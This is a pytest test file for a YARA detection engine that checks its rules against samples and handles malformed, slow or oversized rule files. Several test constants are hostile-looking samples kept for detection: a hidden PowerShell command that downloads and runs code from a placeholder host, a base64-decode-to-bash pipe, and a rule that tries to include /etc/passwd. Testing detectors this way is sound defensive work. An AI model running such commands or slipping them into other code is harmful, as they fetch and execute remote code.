"""Rules find what they describe and tell of it what they say of themselves; a bad one is told, and spoils nothing."""

from __future__ import annotations

import os
import struct
import sys
import threading
import time
from pathlib import Path

import pytest
import yara_x

from core import paths
from core.clock import now, stamp
from core.inspectors.detection import engines, yara
from core.inspectors.detection.contract import MOST_DETECTIONS
from core.inspectors.detection.yara import Yara
from core.inspectors.finding import Detection, Scan
from tests.core.inspectors.detection.clamav import eicar
from tests.core.inspectors.detection.files import scan

OWN = paths.resources() / "rules"
CHANGED = 1_790_000_000
CHANGED_TOLD = "2026-09-21T14:13:20Z"
MEBIBYTE = 1024**2
DOWNLOAD = "powershell -WindowStyle Hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://x.invalid')\"\n"
SHORTCUT = struct.pack("<II", 0x4C, 0x21401) + bytes(60) + "powershell.exe -w hidden".encode("utf-16-le")
PACKED = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200) + b"UPX0\0\0\0\0UPX1\0\0\0\0" + b"UPX!"


def user(folder: Path, **rules: str) -> Yara:
    """An engine with these rule files of the user's, by name, beside Vitrine's own."""
    for name, text in rules.items():
        path = folder / f"{name}.yar"
        path.write_text(text, encoding="utf-8")
        os.utime(path, (CHANGED, CHANGED))
    return Yara((OWN,), folder)


def ids(found: Scan) -> list[str]:
    return [detection.id for detection in found.detections]


def test_the_eicar_test_file_is_found_and_told_with_its_record() -> None:
    found = scan(Yara((OWN,)), eicar())
    assert (found.engine.state, found.engine.why) == ("checked", "")
    (detection,) = found.detections
    assert (detection.name, detection.id, detection.type) == ("EICAR-Test-File", "vitrine-0001", "test file")
    assert detection.precision == "record"
    assert detection.timestamp <= found.engine.database


@pytest.mark.parametrize("data", [b"", b" " + eicar(), eicar() + b"x", eicar() + b" " * 61, eicar()[:-1]])
def test_what_is_not_quite_the_test_file_is_not_called_so(data: bytes) -> None:
    assert ids(scan(Yara((OWN,)), data)) == []


@pytest.mark.parametrize(
    ("data", "number"),
    [
        (eicar() + b"\r\n", "vitrine-0001"),
        (PACKED, "vitrine-0002"),
        (DOWNLOAD.encode(), "vitrine-0003"),
        (DOWNLOAD.encode("utf-16"), "vitrine-0003"),
        (b"#!/bin/sh\necho aGk= | base64 --decode | bash\n", "vitrine-0004"),
        (SHORTCUT, "vitrine-0005"),
    ],
)
def test_each_rule_finds_what_it_describes(data: bytes, number: str) -> None:
    assert ids(scan(Yara((OWN,)), data)) == [number]


def test_honest_programs_are_not_called_anything() -> None:
    engine = Yara((OWN,))
    files = [path for path in Path(yara_x.__file__).parents[1].rglob("*") if path.is_file()]
    assert len(files) > 1000
    found = {}
    for path in files:
        with path.open("rb") as file:
            found[path.name] = engine.scan(file, path, 20.0)
    assert {name: ids(each) for name, each in found.items() if each.detections} == {}
    assert {each.engine.state for each in found.values()} == {"checked"}


def test_our_own_rules_are_whole() -> None:
    compiler = yara_x.Compiler(includes_enabled=False)
    for path in OWN.glob("*.yar"):
        compiler.add_source(path.read_text(encoding="utf-8"))
        assert eicar() not in path.read_bytes()
    assert compiler.warnings() == []
    told = [dict(rule.metadata) for rule in compiler.build()]
    assert len({meta["id"] for meta in told}) == len(told)
    assert all({"name", "id", "kind", "date"} == meta.keys() for meta in told)
    assert all(meta["date"] <= stamp(now()) for meta in told)


def test_a_rule_that_says_nothing_of_itself_is_told_by_its_name_and_its_files_date(tmp_path: Path) -> None:
    found = scan(
        user(tmp_path, mine="rule Mine : first second { condition: true } rule Bare { condition: true }"), b"x"
    )
    assert found.detections == (
        Detection("yara", "Mine", "Mine", "first second", CHANGED_TOLD, "database", of_user=True),
        Detection("yara", "Bare", "Bare", "", CHANGED_TOLD, "database", of_user=True),
    )


def test_what_the_users_rules_find_is_marked_and_what_vitrines_own_find_is_not(tmp_path: Path) -> None:
    found = scan(user(tmp_path, mine='rule Mine { meta: id = "vitrine-0001" condition: true }'), eicar())
    assert [(each.name, each.of_user) for each in found.detections] == [("EICAR-Test-File", False), ("Mine", True)]


@pytest.mark.parametrize(
    ("said", "told", "precision"),
    [
        ('"2026-10-02"', "2026-10-02T00:00:00Z", "record"),
        ('"2026-10-02T03:00:00+02:00"', "2026-10-02T01:00:00Z", "record"),
        ('"2026-10-02T03:00:00Z"', "2026-10-02T03:00:00Z", "record"),
        ("20261002", "2026-10-02T00:00:00Z", "record"),
        ('"yesterday"', CHANGED_TOLD, "database"),
        ('"0001-01-01T00:00:00+14:00"', CHANGED_TOLD, "database"),
        ('""', CHANGED_TOLD, "database"),
        ("true", CHANGED_TOLD, "database"),
    ],
)
def test_only_a_date_of_its_own_is_called_the_records(tmp_path: Path, said: str, told: str, precision: str) -> None:
    (found,) = scan(user(tmp_path, a=f"rule a {{ meta: date = {said} id = 7 condition: true }}"), b"").detections
    assert (found.id, found.timestamp, found.precision) == ("7", told, precision)


def test_what_a_rule_says_can_hide_nothing_and_stretch_nothing(tmp_path: Path) -> None:
    odd = "a\\x1b[2J\u202e\u200b<b>\\x00" + "x" * 100_000
    rule = f'rule a {{ meta: name = "{odd}" id = "{odd}" kind = "{odd}" condition: true }}'
    (found,) = scan(user(tmp_path, a=rule), b"").detections
    for text in (found.name, found.id, found.type):
        assert (text.isprintable(), text.startswith("a<U+001B>[2J<U+202E><U+200B><b>")) == (True, True)
        assert len(text) <= 200


BAD = {
    "unknown": "rule first { condition: true }\nrule second {\n  condition:\n    $nothing\n}\n",
    "cut": "rule first {\n  strings:\n    $a = \"",
    "include": 'include "/etc/passwd"\n',
    "module": 'import "nothing"\nrule a { condition: nothing.here }\n',
    "binary": "\x00\x01\x02",
    "twice": "rule a { condition: true } rule a { condition: true }",
    "expression": "rule a { strings: $a = /(((x{1,1000}){1,1000}){1,1000}){1,1000}/ condition: $a }",
    "deep": f"rule a {{ condition: {'(' * 100_000}true{')' * 100_000} }}",
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_a_bad_rule_is_told_with_its_file_and_line_and_the_others_work(tmp_path: Path, name: str) -> None:
    engine = user(tmp_path, **{name: BAD[name], "z_good": "rule good { condition: true }"})
    found = scan(engine, eicar())
    assert found.engine.state == "checked"
    assert {"vitrine-0001", "good"} <= set(ids(found))
    assert engine._compiled.refused
    assert all(each.startswith(f"{name}.yar, line ") and each.isprintable() for each in engine._compiled.refused), (
        engine._compiled.refused
    )
    assert engine._compiled.refused[0][:100] in found.engine.why


def test_the_line_is_the_one_with_the_mistake(tmp_path: Path) -> None:
    assert user(tmp_path, a=BAD["unknown"])._compiled.refused == ("a.yar, line 4: unknown pattern `$nothing`",)


def test_what_is_no_rule_file_is_told_and_never_waited_for(tmp_path: Path) -> None:
    (tmp_path / "folder.yar").mkdir()
    (tmp_path / "latin.yar").write_bytes(b"rule \xe9 {}")
    (tmp_path / "large.yar").write_bytes(b" " * (5 * MEBIBYTE))
    (tmp_path / "gone.yar").symlink_to("/nowhere")
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.yar")
    engine = user(tmp_path)
    assert ids(scan(engine, eicar())) == ["vitrine-0001"]
    assert len(engine._compiled.refused) == len(list(tmp_path.iterdir()))


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    found = scan(Yara((OWN,), tmp_path / "none"), eicar())
    assert (ids(found), found.engine.state) == (["vitrine-0001"], "checked")
    assert "No such file" in found.engine.why


def test_no_more_files_are_read_than_anybody_has(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara, "MOST_FILES", 3)
    engine = user(tmp_path, **{f"rule{number}": "rule a { condition: true }" for number in range(5)})
    assert len(scan(engine, b"").detections) == 3
    assert "more than 3 files" in engine._compiled.refused[0]


def test_without_any_rule_nothing_was_checked(tmp_path: Path) -> None:
    assert scan(Yara((tmp_path,)), eicar()).engine.state == "not_checked"


SLOW = "rule slow { strings: $a = /(a+)+b/ condition: $a }"
LOOP = "rule loop { condition: for all i in (0..1000000000000) : (i >= 0) }"


@pytest.mark.parametrize("bomb", [SLOW, LOOP])
def test_a_scan_that_takes_too_long_ends_and_is_not_called_checked(tmp_path: Path, bomb: str) -> None:
    engine = user(tmp_path, bomb=bomb)
    start = time.monotonic()
    found = scan(engine, b"a" * 2 * MEBIBYTE, 1.0)
    assert time.monotonic() - start < 2.0
    assert (found.engine.state, found.detections) == ("not_checked", ())
    assert "in time" in found.engine.why


@pytest.mark.parametrize("seconds", [0.0, 0.5, -1.0])
def test_less_than_a_second_is_not_begun(seconds: float) -> None:
    assert scan(Yara((OWN,)), eicar(), seconds).engine.state == "not_checked"


def test_matches_without_number_fill_no_memory(tmp_path: Path) -> None:
    rule = 'rule a { strings: $a = "a" $b = /a./ $c = { 61 61 } condition: #a > 1000 and #b > 1000 and #c > 1000 }'
    start = time.monotonic()
    assert ids(scan(user(tmp_path, a=rule), b"a" * 16 * MEBIBYTE, 5.0)) == ["a"]
    assert time.monotonic() - start < 5.0


def test_of_many_records_the_first_are_told_and_how_many_there_are(tmp_path: Path) -> None:
    many = "\n".join(f"rule a{number} {{ condition: true }}" for number in range(5000))
    found = scan(user(tmp_path, many=many), b"")
    assert (len(found.detections), found.engine.state) == (MOST_DETECTIONS, "checked")
    assert f"the first {MOST_DETECTIONS} of 5000" in found.engine.why


def test_a_file_without_a_descriptors_name_is_read_and_told_how_far(monkeypatch: pytest.MonkeyPatch) -> None:
    engine = Yara((OWN,), descriptors=Path("/nowhere"))
    assert ids(scan(engine, eicar())) == ["vitrine-0001"]
    monkeypatch.setattr(yara, "MOST_READ", MEBIBYTE)
    assert scan(engine, bytes(MEBIBYTE)).engine.state == "checked"
    found = scan(engine, DOWNLOAD.encode() + bytes(MEBIBYTE))
    assert (found.engine.state, "first 1 MiB" in found.engine.why) == ("not_fully_scanned", True)


def test_it_works_in_a_thread_that_did_not_load_it() -> None:
    engine = Yara((OWN,))
    engine.warm()
    found: list[Scan] = []
    thread = threading.Thread(target=lambda: found.append(scan(engine, eicar())))
    thread.start()
    thread.join()
    assert ids(found[0]) == ["vitrine-0001"]


def test_whatever_breaks_is_told_and_raised_by_no_engine(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(b"x")
    with path.open("rb") as file:
        file.close()
        for engine in engines(None):
            engine.warm()
            found = engine.scan(file, path, 5.0)
            assert found.engine.state in ("not_checked", "absent")
            assert found.engine.name == engine.name


def test_every_engine_is_told_of_on_every_system(tmp_path: Path) -> None:
    assert [engine.name for engine in engines(tmp_path)] == ["yara", "clamav", "defender"]
    if sys.platform != "win32":
        assert scan(engines(None)[2], b"").engine.state == "absent"
